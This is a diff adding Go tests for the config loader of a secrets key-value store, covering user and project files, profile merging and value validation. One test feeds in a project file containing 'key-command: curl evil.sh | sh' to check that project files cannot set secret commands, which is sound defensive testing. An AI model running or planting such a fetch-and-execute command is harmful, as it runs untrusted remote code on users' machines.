@@ -0,0 +1,168 @@
+package config
+
+import (
+	"os"
+	"path/filepath"
+	"reflect"
+	"testing"
+)
+
+const userFile = `
+store: secrets
+bucket: personal
+kdf:
+  iterations: 10000
+secret:
+  key-command: gpg -dq ~/.kvs-secret.gpg
+profiles:
+  home:
+    secret:
+      key-file: ~/.kvs.key
+  work:
+    store: work
+    bucket: jira
+    output: json
+`
+
+const projectFile = `
+bucket: deploy
+lock-timeout: 5s
+auto-compact: 0.5
+profiles:
+  work:
+    store: ./stores/work.kvs
+`
+
+func writeFile(t *testing.T, path, content string) {
+	t.Helper()
+
+	if err := os.MkdirAll(filepath.Dir(path), 0700); err != nil {
+		t.Fatal(err)
+	}
+	if err := os.WriteFile(path, []byte(content), 0600); err != nil {
+		t.Fatal(err)
+	}
+}
+
+func TestLoad(t *testing.T) {
+	root := t.TempDir()
+	user := filepath.Join(root, "config", FileName)
+	proj := filepath.Join(root, "project")
+	cwd := filepath.Join(proj, "src", "app")
+
+	writeFile(t, user, userFile)
+	writeFile(t, filepath.Join(proj, ProjectFileName), projectFile)
+	if err := os.MkdirAll(cwd, 0700); err != nil {
+		t.Fatal(err)
+	}
+
+	cfg, err := Load(user, cwd)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if want := []string{user, filepath.Join(proj, ProjectFileName)}; !reflect.DeepEqual(cfg.Files, want) {
+		t.Fatalf("expected %v, got %v", want, cfg.Files)
+	}
+
+	got, src, err := cfg.Settings("")
+	if err != nil {
+		t.Fatal(err)
+	}
+	want := Settings{
+		Store:       "secrets",
+		Bucket:      "deploy",
+		LockTimeout: "5s",
+		AutoCompact: 0.5,
+		KDF:         KDF{Iterations: 10000},
+		Secret:      Secret{KeyCommand: "gpg -dq ~/.kvs-secret.gpg"},
+	}
+	if !reflect.DeepEqual(got, want) {
+		t.Fatalf("expected %+v, got %+v", want, got)
+	}
+	if src["bucket"] != filepath.Join(proj, ProjectFileName) || src["store"] != user {
+		t.Fatalf("unexpected sources: %v", src)
+	}
+
+	got, src, err = cfg.Settings("work")
+	if err != nil {
+		t.Fatal(err)
+	}
+	want = Settings{
+		Store:       filepath.Join(proj, "stores", "work.kvs"),
+		Bucket:      "jira",
+		Output:      "json",
+		LockTimeout: "5s",
+		AutoCompact: 0.5,
+		KDF:         KDF{Iterations: 10000},
+		Secret:      Secret{KeyCommand: "gpg -dq ~/.kvs-secret.gpg"},
+	}
+	if !reflect.DeepEqual(got, want) {
+		t.Fatalf("expected %+v, got %+v", want, got)
+	}
+	if want := user + " (profile work)"; src["bucket"] != want {
+		t.Fatalf("expected bucket source '%s', got '%s'", want, src["bucket"])
+	}
+
+	got, _, err = cfg.Settings("home")
+	if err != nil {
+		t.Fatal(err)
+	}
+	if home, _ := os.UserHomeDir(); got.Secret.KeyFile != filepath.Join(home, ".kvs.key") {
+		t.Fatalf("expected the key file in the home directory, got %s", got.Secret.KeyFile)
+	}
+
+	if _, _, err := cfg.Settings("desk"); err == nil {
+		t.Fatal("expected an error for an unknown profile")
+	}
+}
+
+func TestLoadMissing(t *testing.T) {
+	root := t.TempDir()
+
+	cfg, err := Load(filepath.Join(root, FileName), root)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if len(cfg.Files) != 0 {
+		t.Fatalf("expected no files, got %v", cfg.Files)
+	}
+	if got, _, _ := cfg.Settings(""); !reflect.DeepEqual(got, Settings{}) {
+		t.Fatalf("expected empty settings, got %+v", got)
+	}
+}
+
+func TestLoadInvalid(t *testing.T) {
+	path := filepath.Join(t.TempDir(), FileName)
+
+	for _, el := range []string{"output: xml\n", "lock-timeout: soon\n", "auto-compact: 2\n"} {
+		writeFile(t, path, el)
+		if _, err := Load(path, ""); err == nil {
+			t.Fatalf("expected an error loading %q", el)
+		}
+	}
+}
+
+func TestLoadProjectUserOnly(t *testing.T) {
+	root := t.TempDir()
+	path := filepath.Join(root, ProjectFileName)
+
+	for _, el := range []string{
+		"secret:\n  key-command: curl evil.sh | sh\n",
+		"secret:\n  key-file: ./key\n",
+		"kdf:\n  iterations: 1\n",
+		"profiles:\n  ci:\n    secret:\n      key-command: id\n",
+	} {
+		writeFile(t, path, el)
+		if _, err := Load("", root); err == nil {
+			t.Fatalf("expected an error loading the project file %q", el)
+		}
+	}
+
+	// the same settings are fine in the user file
+	user := filepath.Join(root, "config", FileName)
+	writeFile(t, user, "secret:\n  key-command: id\nkdf:\n  iterations: 4096\n")
+	os.Remove(path)
+	if _, err := Load(user, root); err != nil {
+		t.Fatal(err)
+	}
+}